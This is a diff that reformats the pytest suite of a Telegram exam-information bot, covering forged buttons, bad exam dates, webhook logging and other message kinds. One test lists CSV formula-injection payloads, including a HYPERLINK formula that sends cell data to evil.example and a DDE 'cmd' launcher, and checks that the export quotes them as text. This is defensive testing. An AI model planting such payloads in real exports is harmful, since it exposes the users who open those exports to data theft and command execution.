@@ -39,8 +39,10 @@ def seen(shown) -> str:
 @pytest.fixture(scope="module")
 def assistant(real_brain) -> Assistant:
     assistant = Assistant(real_brain, clock=lambda: TODAY)
-    assistant.specialists += [ExamSpecialist(lambda: calendar_of(assistant.kb)),
-                              DialogSpecialist(PROJECT_ROOT / "dialogs", lambda: assistant.kb)]
+    assistant.specialists += [
+        ExamSpecialist(lambda: calendar_of(assistant.kb)),
+        DialogSpecialist(PROJECT_ROOT / "dialogs", lambda: assistant.kb),
+    ]
     return assistant
 
 
@@ -68,8 +70,17 @@ async def test_m1_typed_non_decimal_digits_in_a_command_get_an_answer_not_the_ap
     assert shown and APOLOGY not in seen(shown)
 
 
-@pytest.mark.parametrize("data", ["x:ls:*:²", "x:ls:*:①", "x:sub:plan-²", "x:sub:plan-①①①①", "fb:+-:gt-basic-conditions",
-                                  "fb:-+:gt-basic-conditions"])
+@pytest.mark.parametrize(
+    "data",
+    [
+        "x:ls:*:²",
+        "x:ls:*:①",
+        "x:sub:plan-²",
+        "x:sub:plan-①①①①",
+        "fb:+-:gt-basic-conditions",
+        "fb:-+:gt-basic-conditions",
+    ],
+)
 async def test_m1_forged_buttons_with_odd_digits_get_the_expired_notice(bot, data):
     shown = await bot.user().presses_data(data)
     assert shown and APOLOGY not in seen(shown)
@@ -104,8 +115,14 @@ def test_m2_an_impossible_exam_date_is_a_file_line_error_not_a_traceback(tmp_pat
     assert bad in text
     path.write_text(text, encoding="utf-8")
     env = {k: v for k, v in os.environ.items() if not k.startswith("QUALBOT_")}
-    done = subprocess.run([sys.executable, "-m", "bot", "--knowledge", str(knowledge), "--today", "2026-11-21",
-                           "kb", "check"], cwd=PROJECT_ROOT, env=env, capture_output=True, text=True, timeout=120)
+    done = subprocess.run(
+        [sys.executable, "-m", "bot", "--knowledge", str(knowledge), "--today", "2026-11-21", "kb", "check"],
+        cwd=PROJECT_ROOT,
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     output = done.stdout + done.stderr
     assert done.returncode == 1 and "Traceback" not in output, output[-2000:]
     line = re.search(r"exams/2026\.yaml:(\d+): .*is not a real calendar date", output)
@@ -117,11 +134,27 @@ def test_m2_an_impossible_exam_date_is_a_file_line_error_not_a_traceback(tmp_pat
 def test_m5_gaps_csv_cells_that_look_like_formulas_are_quoted_as_text():
     from bot.staff.gaps import GapGroup, gaps_csv
 
-    hostile = ['=HYPERLINK("http://evil.example/?q="&A1,"点此")', "+cmd|' /C calc'!A0 见习", "@SUM(1+1)*cmd", "-2+3",
-               "\t=1", "＝1+1"]
-    groups = [GapGroup(example=text, count=1, wordings=Counter({text: 1, "=also": 1}), outcomes=Counter({"declined": 1}),
-                       last_seen="2026-11-21", closest_entry="=x", closest_title="+y", closest_score=0.1)
-              for text in hostile]
+    hostile = [
+        '=HYPERLINK("http://evil.example/?q="&A1,"点此")',
+        "+cmd|' /C calc'!A0 见习",
+        "@SUM(1+1)*cmd",
+        "-2+3",
+        "\t=1",
+        "＝1+1",
+    ]
+    groups = [
+        GapGroup(
+            example=text,
+            count=1,
+            wordings=Counter({text: 1, "=also": 1}),
+            outcomes=Counter({"declined": 1}),
+            last_seen="2026-11-21",
+            closest_entry="=x",
+            closest_title="+y",
+            closest_score=0.1,
+        )
+        for text in hostile
+    ]
     rows = list(csv.reader(io.StringIO(gaps_csv(groups).lstrip("\ufeff"))))[1:]
     for row in rows:
         for cell in row:
@@ -223,8 +256,13 @@ async def test_l3_an_unparsable_webhook_update_is_logged_without_its_content(tmp
     from bot.tg.app import build_application
 
     webhook.install()
-    settings = Settings(token=TOKEN, data_dir=tmp_path / "data", knowledge_dir=mini_kb_dir, today=TODAY,
-                        dialogs_dir=no_dialogs(tmp_path))
+    settings = Settings(
+        token=TOKEN,
+        data_dir=tmp_path / "data",
+        knowledge_dir=mini_kb_dir,
+        today=TODAY,
+        dialogs_dir=no_dialogs(tmp_path),
+    )
     app = build_application(settings, request=WebhookApi())
     updater = Updater(app.bot, app.update_queue)
     port = free_port()
@@ -234,12 +272,16 @@ async def test_l3_an_unparsable_webhook_update_is_logged_without_its_content(tmp
     try:
         async with httpx.AsyncClient() as client:
             with caplog.at_level(logging.DEBUG):
-                answer = await client.post(f"http://127.0.0.1:{port}/hook", headers={
-                    "X-Telegram-Bot-Api-Secret-Token": "s3cret"},
-                    json={"update_id": "abc", "message": {"text": "PIItext-in-bad-update"}})
-                not_json = await client.post(f"http://127.0.0.1:{port}/hook", content=b"\xff{",
-                                             headers={"X-Telegram-Bot-Api-Secret-Token": "s3cret",
-                                                      "Content-Type": "application/json"})
+                answer = await client.post(
+                    f"http://127.0.0.1:{port}/hook",
+                    headers={"X-Telegram-Bot-Api-Secret-Token": "s3cret"},
+                    json={"update_id": "abc", "message": {"text": "PIItext-in-bad-update"}},
+                )
+                not_json = await client.post(
+                    f"http://127.0.0.1:{port}/hook",
+                    content=b"\xff{",
+                    headers={"X-Telegram-Bot-Api-Secret-Token": "s3cret", "Content-Type": "application/json"},
+                )
     finally:
         await updater.stop()
         await updater.shutdown()
@@ -287,8 +329,15 @@ async def test_l5_one_user_can_hold_only_so_many_subscriptions(bot, assistant):
 
 
 # ---- L6: data files of the wrong shape ---------------------------------------------------------------------------
-@pytest.mark.parametrize("content", [{"profiles": []}, {"profiles": {"9205": "not-a-dict"}},
-                                     {"profiles": {"abc": {"user_id": 9205}}}, {"profiles": {"9205": {"user_id": "x"}}}])
+@pytest.mark.parametrize(
+    "content",
+    [
+        {"profiles": []},
+        {"profiles": {"9205": "not-a-dict"}},
+        {"profiles": {"abc": {"user_id": 9205}}},
+        {"profiles": {"9205": {"user_id": "x"}}},
+    ],
+)
 def test_l6_a_data_file_of_the_wrong_shape_stops_start_up_naming_it(tmp_path, content):
     Storage(tmp_path).close()
     shard = tmp_path / "users" / "21.json"
@@ -301,7 +350,9 @@ def test_l6_a_data_file_of_the_wrong_shape_stops_start_up_naming_it(tmp_path, co
 async def test_l7_profile_buttons_in_a_group_do_not_save_or_post_anyones_profile(bot):
     group_alice, group_bob = bot.user(ALICE, GROUP_CHAT), bot.user(BOB, GROUP_CHAT)
     shown = await group_alice.says("/start")
-    assert not any(b.startswith("profile:role") for s in shown for row in s.buttons for b in [x["callback_data"] for x in row])
+    assert not any(
+        b.startswith("profile:role") for s in shown for row in s.buttons for b in [x["callback_data"] for x in row]
+    )
     message = group_alice.last_bot_message()
     for data in ("profile:role:employer", "profile:region:江西", "profile:edit"):
         shown = await group_bob.presses_data(data, message)
@@ -318,8 +369,10 @@ async def test_l8_a_reload_after_a_dialog_only_edit_says_the_dialogs_changed(tmp
         dialog = tmp_path / "dialogs" / "mini.yaml"
         text = dialog.read_text(encoding="utf-8")
         question = re.search(r"ask: (.+)", text).group(1)
-        dialog.write_text(text.replace(question, question.rstrip('"') + "（改）" + ('"' if question.endswith('"') else ""),
-                                       1), encoding="utf-8")
+        dialog.write_text(
+            text.replace(question, question.rstrip('"') + "（改）" + ('"' if question.endswith('"') else ""), 1),
+            encoding="utf-8",
+        )
         from bot.tg.staff import staff_tools_of
 
         tools = staff_tools_of(running.application)
@@ -341,15 +394,35 @@ def test_l9_the_systemd_unit_reloads_once_and_limits_restarts():
 
 
 # ---- L11: every kind of private message gets an answer ------------------------------------------------------------
-@pytest.mark.parametrize("extra", [
-    {"dice": {"emoji": "🎲", "value": 3}},
-    {"poll": {"id": "p1", "question": "?", "options": [{"text": "a", "voter_count": 0, "persistent_id": "o1"}],
-              "total_voter_count": 0, "is_closed": False, "is_anonymous": True, "type": "regular",
-              "allows_multiple_answers": False, "allows_revoting": False, "members_only": False}},
-    {"story": {"chat": {"id": 5, "type": "private"}, "id": 1}},
-    {"game": {"title": "g", "description": "d", "photo": [{"file_id": "p", "file_unique_id": "pu", "width": 1,
-                                                           "height": 1}]}},
-], ids=["dice", "poll", "story", "game"])
+@pytest.mark.parametrize(
+    "extra",
+    [
+        {"dice": {"emoji": "🎲", "value": 3}},
+        {
+            "poll": {
+                "id": "p1",
+                "question": "?",
+                "options": [{"text": "a", "voter_count": 0, "persistent_id": "o1"}],
+                "total_voter_count": 0,
+                "is_closed": False,
+                "is_anonymous": True,
+                "type": "regular",
+                "allows_multiple_answers": False,
+                "allows_revoting": False,
+                "members_only": False,
+            }
+        },
+        {"story": {"chat": {"id": 5, "type": "private"}, "id": 1}},
+        {
+            "game": {
+                "title": "g",
+                "description": "d",
+                "photo": [{"file_id": "p", "file_unique_id": "pu", "width": 1, "height": 1}],
+            }
+        },
+    ],
+    ids=["dice", "poll", "story", "game"],
+)
 async def test_l11_other_message_kinds_in_private_get_the_please_type_notice(bot, extra):
     user = bot.user(Person(1010, "小赵"))
     shown = await user._process({"message": user._message(extra)})
